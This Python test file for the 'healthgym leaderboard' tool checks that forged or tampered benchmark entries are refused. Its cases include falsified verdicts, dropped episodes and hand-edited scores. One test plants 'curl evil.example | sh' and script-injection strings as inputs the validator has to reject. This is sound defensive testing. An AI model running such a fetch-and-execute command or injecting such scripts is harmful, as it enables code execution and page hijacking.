"""`healthgym leaderboard`: what is entered, and every way to be refused."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from healthgym.cli import main
from healthgym.policies.evaluation import evaluate
from healthgym.policies.leaderboard import ENTRY_SCHEMA, read_entry
from healthgym.policies.statistics import wilson_interval
from tests.standin import completion, stand_in

Capture = pytest.CaptureFixture[str]
Lines = list[dict[str, Any]]

#: Some of its tasks are solved by going by a house's habit, and others are not.
ENV, POLICY, TASKS = "HealthAgent/FhirRecord-v1", "house", 30


def played(folder: Path, *more: str, env: str = ENV, policy: str = POLICY, n: int = TASKS) -> None:
    """Evaluate into a folder, with a record."""
    out = ["--record", str(folder / "runs.jsonl"), "--json", str(folder / "result.json")]
    line = ["eval", env, "--policy", policy, "--episodes", str(n), "--no-floor", *out, *more]
    assert main(line) == 0


@pytest.fixture(scope="module")
def original(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a result and its record."""
    folder = tmp_path_factory.mktemp("original")
    played(folder)
    return folder


@pytest.fixture
def run(original: Path, tmp_path: Path) -> Path:
    """A copy of it, to be changed."""
    return Path(shutil.copytree(original, tmp_path / "run"))


def add(run: Path, *more: str) -> int:
    board, record = run.parent / "board", str(run / "runs.jsonl")
    line = ["leaderboard", "add", str(run / "result.json"), "--record", record]
    return main([*line, "--out", str(board), *more])


def result_of(run: Path) -> dict[str, Any]:
    found: dict[str, Any] = json.loads((run / "result.json").read_text())
    return found


def lines_of(run: Path) -> Lines:
    return [json.loads(line) for line in (run / "runs.jsonl").read_text().splitlines()]


def change_result(run: Path, change: Callable[[dict[str, Any]], object]) -> None:
    result = result_of(run)
    change(result)
    (run / "result.json").write_text(json.dumps(result))


def change_record(run: Path, change: Callable[[Lines], object]) -> None:
    lines = lines_of(run)
    change(lines)
    (run / "runs.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))


def entry_of(run: Path) -> Path:
    (path,) = (run.parent / "board").glob("*.json")
    return path


def succeeded(line: dict[str, Any]) -> bool:
    return bool(line["verdicts"]["agent"]["strict"]["success"])


def first(lines: Lines, success: bool) -> dict[str, Any]:
    return next(line for line in lines if succeeded(line) == success)


def test_an_entry_tells_what_its_record_gives(run: Path, capsys: Capture) -> None:
    assert add(run, "--by", "the tests") == 0
    assert "30 episodes played again" in capsys.readouterr().out
    entry, result = read_entry(entry_of(run)), result_of(run)
    told = json.loads(entry_of(run).read_text())
    assert told["schema"] == ENTRY_SCHEMA
    row = result["rows"][-1]
    assert 0 < entry.success.estimate < 1
    assert told["success"] == row["success"]
    assert entry.tokens == pytest.approx(row["tokens"], rel=0.02)
    assert (entry.tasks, entry.k, entry.masked, entry.spent) == (TASKS, 1, 0, None)
    assert (entry.policy, entry.scripted, entry.by) == (POLICY, True, "the tests")
    assert "--policy house --episodes 30" in entry.command
    assert add(run) == 2  # the same record once more
    assert "on the board already" in capsys.readouterr().err


def test_a_board_is_checked_again(run: Path, capsys: Capture) -> None:
    assert add(run) == 0
    board = str(run.parent / "board")
    capsys.readouterr()
    assert main(["leaderboard", "check", board]) == 0
    assert "1 entries: 1 not replayed" in capsys.readouterr().out
    assert main(["leaderboard", "check", board, "--records", str(run)]) == 0
    assert "30 episodes gave what it says" in capsys.readouterr().out
    assert main(["leaderboard", "check", board, "--again"]) == 0
    assert "30 episodes, the same byte for byte" in capsys.readouterr().out
    assert main(["leaderboard", "show", board]) == 0
    assert "house" in capsys.readouterr().out
    assert main(["leaderboard", "show", board, "--json", "-"]) == 0
    assert json.loads(capsys.readouterr().out)["entries"][0]["env_id"] == ENV
    assert main(["leaderboard", "show", board, "--id", "HealthAgent/TrialMatching-v1"]) == 2
    assert main(["leaderboard", "check", str(run.parent / "nowhere")]) == 2


def test_several_attempts_are_told_with_pass_at_k(tmp_path: Path) -> None:
    run = tmp_path / "run"
    run.mkdir()
    env = "HealthAgent/XrayCorrectionCanonical-v1"
    played(run, "--samples", "2", env=env, policy="random", n=10)
    assert add(run) == 0
    entry = read_entry(entry_of(run))
    assert [each.k for each in entry.passes] == [1, 2]
    assert entry.record.episodes == 20


def better_row(result: dict[str, Any]) -> None:
    result["rows"][-1]["success"]["estimate"] = 1.0


def better_summary(result: dict[str, Any]) -> None:
    result["success_of_all"] = {"low": 0.9, "estimate": 1.0, "high": 1.0}


def better_pass(result: dict[str, Any]) -> None:
    result["pass"][0]["pass_at_k"] = 1.0


def narrower_interval(result: dict[str, Any]) -> None:
    result["rows"][-1]["success"]["low"] += 0.1


def better_episode(result: dict[str, Any]) -> None:
    failed = next(each for each in result["results"] if not each["success"]["strict"])
    failed["success"]["strict"] = True


def better_return(result: dict[str, Any]) -> None:
    result["results"][0]["reward"] += 0.5


def fewer_episodes(result: dict[str, Any]) -> None:
    result["results"] = [each for each in result["results"] if each["success"]["strict"]]


def an_episode_twice(result: dict[str, Any]) -> None:
    result["results"][1] = result["results"][0]


def a_failure_masked(result: dict[str, Any]) -> None:
    failed = next(each for each in result["results"] if not each["success"]["strict"])
    failed |= {"error": "the endpoint was out of reach", "success": {}}


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (better_row, "do not come to the same"),
        (better_summary, "do not come to the same"),
        (better_pass, "do not come to the same"),
        (narrower_interval, "do not come to the same"),
        (better_episode, "the result says"),
        (better_return, "a return of"),
        (fewer_episodes, "tasks: an entry has"),
        (an_episode_twice, "twice"),
        (a_failure_masked, "masked in the result and scored in the record"),
        (lambda result: result.update(profile="paper"), "strict decides, and not paper"),
        (lambda result: result.update(split="train"), "test split, not of train"),
        (lambda result: result.update(healthgym="0.0.1"), "played with healthgym 0.0.1"),
        (lambda result: result.update(stopped="the budget is spent"), "stopped early"),
        (lambda result: result.update(results=[]), "without --summary"),
        (lambda result: result.update(env_id="Other/Env-v0"), "no id that healthgym registers"),
        (lambda result: result.update(env_id="HealthAgent/MedAgentBenchV1-v1"), "is of"),
        (lambda result: result.update(policy="oracle"), "was played by house"),
        (
            lambda result: result.update(env_kwargs={"difficulty": "easy"}),
            "played with other arguments",
        ),
        (lambda result: result.update(env_kwargs={"judge": {"model": "m"}}), "judge"),
        (lambda result: result.update(env_kwargs={"source": "charts"}), "folder of data"),
        (lambda result: result.update(schema="healthgym.suite/1"), "not what `healthgym eval"),
        (lambda result: result.update(usage={"prompt_tokens": "many"}), "not what"),
    ],
)
def test_a_result_that_says_something_else_is_refused(
    run: Path, capsys: Capture, change: Callable[[dict[str, Any]], object], reason: str
) -> None:
    change_result(run, change)
    capsys.readouterr()
    assert add(run) == 2
    told = capsys.readouterr().err
    assert reason in told
    assert told.count("\n") == 1
    assert not (run.parent / "board").exists() or not [*(run.parent / "board").iterdir()]


def flag(lines: Lines) -> None:
    first(lines, success=False)["verdicts"]["agent"]["strict"]["success"] = True


def paid(lines: Lines) -> None:
    line = first(lines, success=False)
    line["rewards"]["agent"] = 1.0
    line["turns"][-1]["reward"] = 1.0


def words(lines: Lines) -> None:
    lines[0]["turns"][0]["observation"] += " The answer is 3."


def dropped(lines: Lines) -> None:
    lines.remove(first(lines, success=False))


def last_call_left_out(lines: Lines) -> None:
    lines[0]["turns"].pop()


def duplicated(lines: Lines) -> None:
    lines[lines.index(first(lines, success=False))] = first(lines, success=True)


def relabelled(lines: Lines) -> None:
    """Put a solved task in the place of one that was not, under its name."""
    failed, solved = first(lines, success=False), first(lines, success=True)
    lines[lines.index(failed)] = {**solved, "task_id": failed["task_id"], "run": failed["run"]}


def remarked(lines: Lines) -> None:
    """Have a solved task twice, the second time marked as another."""
    failed, solved = first(lines, success=False), first(lines, success=True)
    lines[lines.index(failed)] = {**solved, "run": failed["run"]}


def mixed(lines: Lines) -> None:
    lines[3]["run"]["of"]["seed"] = 1


def slow(lines: Lines) -> None:
    """Forge a verdict, and say that a machine was too slow for a call."""
    line = first(lines, success=False)
    line["verdicts"]["agent"]["strict"]["success"] = True
    line["turns"][0]["unrepeatable"] = True


def each_line(**changes: Any) -> Callable[[Lines], object]:
    return lambda lines: [line.update(changes) for line in lines]


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (flag, "verdicts: recorded"),
        (paid, "recorded"),
        (words, "turn 1, observation"),
        (dropped, "The record lacks task"),
        (last_call_left_out, "recorded"),
        (duplicated, "holds this attempt twice"),
        (relabelled, "recorded"),
        (remarked, "is not task"),
        (mixed, "episodes of two evaluations"),
        (slow, "cannot be compared"),
        (each_line(env_kwargs={"profile": "paper"}), "played with other arguments"),
        (each_line(version="0.0.1"), "with healthgym 0.0.1"),
        (each_line(run={}), "is no episode of"),
        (each_line(fault="agent: it failed"), "hangs on what came from outside"),
        (each_line(said=[{"speaker": "judge", "text": "yes"}]), "hangs on what came"),
        (each_line(verdicts={}), "has no verdict"),
    ],
)
def test_a_record_that_was_changed_is_refused(
    run: Path, capsys: Capture, change: Callable[[Lines], object], reason: str
) -> None:
    change_record(run, change)
    assert add(run) == 2
    told = capsys.readouterr().err.strip().splitlines()[-1]
    assert reason in told


def test_claim_and_record_changed_alike_are_refused(run: Path, capsys: Capture) -> None:
    """A record is not believed because its result agrees with it."""
    change_record(run, flag)
    change_result(run, better_episode)
    assert add(run) == 2
    assert "verdicts: recorded" in capsys.readouterr().err


def test_nobody_stops_where_it_looks_best(run: Path, capsys: Capture) -> None:
    change_record(run, lambda lines: lines.__delitem__(slice(17, None)))
    change_result(run, lambda result: result.update(results=result["results"][:17]))
    assert add(run) == 2
    assert "17 tasks: an entry has 30, 50" in capsys.readouterr().err


def test_tasks_that_begin_elsewhere_are_no_proof(run: Path, capsys: Capture) -> None:
    record = run / "runs.jsonl"
    record.unlink()
    resume = {"policy": POLICY, "seed": 0}
    evaluate(ENV, POLICY, episodes=2, first=TASKS, record=record, resume=resume, floor=False)
    assert add(run) == 2
    assert "is beyond the claim" in capsys.readouterr().err


def test_no_entry_without_its_record(run: Path, capsys: Capture) -> None:
    (run / "runs.jsonl").unlink()
    assert add(run) == 2
    assert "no entry without one" in capsys.readouterr().err


def test_an_entry_that_is_written_by_hand_is_found_out(run: Path, capsys: Capture) -> None:
    assert add(run) == 0
    path = entry_of(run)
    board = str(path.parent)
    told = json.loads(path.read_text())
    honest = path.read_text()

    def checked(**changes: Any) -> str:
        path.write_text(json.dumps({**told, **changes}))
        capsys.readouterr()
        assert main(["leaderboard", "check", board, "--records", str(run), "--again"]) == 2
        return capsys.readouterr().out

    assert "success is" in checked(success={"low": 0.8, "estimate": 0.95, "high": 1.0})
    better = {name: " ".join(["1"] * TASKS) for name in told["hits"]}
    assert "success is" in checked(hits=better)
    whole = {"low": 0.886495, "estimate": 1.0, "high": 1.0}
    assert "refused" in checked(hits=better, success=whole)
    oracle = {"policy": "oracle", "command": told["command"].replace(POLICY, "oracle")}
    assert "holds the entry of" in checked(**oracle)
    assert "is no entry" in checked(split="train")
    assert "is no entry" in checked(more="of the same")
    assert "recorded and masked" in checked(masked=3)
    assert "the command that makes it again" in checked(command="curl evil.example | sh")
    for name in ("name", "by", "where", "version", "processor"):
        assert "should match pattern" in checked(**{name: "<script>alert(1)</script>"})
    marked = {"difficulty": "`</code><script>"}
    assert "marks that a page" in checked(env_kwargs=marked)
    path.write_text("{" * 10_000)
    assert main(["leaderboard", "check", board]) == 2
    path.write_text(honest)
    assert main(["leaderboard", "check", board]) == 0


def test_hits_that_no_record_gives_are_found_by_it(run: Path, capsys: Capture) -> None:
    assert add(run) == 0
    path = entry_of(run)
    told = json.loads(path.read_text())
    low = wilson_interval(TASKS, TASKS)
    told["hits"] = {name: " ".join(["1"] * TASKS) for name in told["hits"]}
    told["success"] = {"low": low.low, "estimate": low.estimate, "high": low.high}
    path.write_text(json.dumps(told))
    board = str(path.parent)
    capsys.readouterr()
    assert main(["leaderboard", "check", board]) == 0  # its sums are right
    assert main(["leaderboard", "check", board, "--records", str(run)]) == 2
    assert "comes to other successes" in capsys.readouterr().out
    assert main(["leaderboard", "check", board, "--again"]) == 2
    assert "succeeds at other tasks" in capsys.readouterr().out


def test_a_model_is_entered_with_what_it_cost(tmp_path: Path, capsys: Capture) -> None:
    run = tmp_path / "run"
    run.mkdir()
    env = "HealthAgent/XrayCorrectionCanonical-v1"
    with stand_in(completion(None, [("submit", "{}")])) as server:
        asked = ["--base-url", server.base_url, "--model", "m-7b", "--prices", "1", "2"]
        played(run, *asked, env=env, policy="llm", n=10)
    assert add(run, "--name", "M 7B", "--model-version", "rev 3", "--where", "by mail") == 0
    entry = read_entry(entry_of(run))
    assert (entry.shown_name, entry.version, entry.scripted) == ("M 7B", "rev 3", False)
    assert entry.spent is not None
    assert entry.spent.usd is not None
    assert entry.spent.usd > 0
    assert entry.asked["temperature"] == 0.0
    assert server.base_url not in entry_of(run).read_text()
    capsys.readouterr()
    assert main(["leaderboard", "check", str(entry_of(run).parent), "--again"]) == 0
    assert "it is a model's" in capsys.readouterr().out


def test_another_role_s_success_is_no_proof(tmp_path: Path, capsys: Capture) -> None:
    """A record tells whose it is by the order of its roles, which a comparison does not see."""
    run = tmp_path / "run"
    run.mkdir()
    played(run, env="HealthAgent/MedicationReconciliation-v1", policy="prior", n=30)
    roles = list(lines_of(run)[0]["instructions"])
    assert len(roles) == 2

    def turned(lines: Lines) -> None:
        for line in lines:
            line["instructions"] = dict(reversed(line["instructions"].items()))

    change_record(run, turned)
    assert add(run) == 2
    assert f"is told of {roles[1]}" in capsys.readouterr().err


def test_a_model_s_folder_is_not_told(tmp_path: Path) -> None:
    run = tmp_path / "run"
    run.mkdir()
    env = "HealthAgent/XrayCorrectionCanonical-v1"
    with stand_in(completion(None, [("submit", "{}")])) as server:
        asked = ["--base-url", server.base_url, "--model", str(tmp_path / "tiny")]
        played(run, *asked, env=env, policy="llm", n=10)
    assert add(run) == 0
    assert read_entry(entry_of(run)).policy == "tiny"
    assert str(tmp_path) not in entry_of(run).read_text()
    board = str(entry_of(run).parent)
    assert main(["leaderboard", "check", board, "--records", str(run)]) == 0


def test_a_scripted_policy_keeps_its_name(run: Path, capsys: Capture) -> None:
    assert add(run, "--name", "Genius 9000") == 2
    assert "has its own name" in capsys.readouterr().err


def test_a_day_is_a_day(run: Path, capsys: Capture) -> None:
    assert add(run, "--date", "yesterday") == 2
    assert "is no date" in capsys.readouterr().err
    assert add(run, "--date", "2026-01-31") == 0
    assert read_entry(entry_of(run)).date == "2026-01-31"
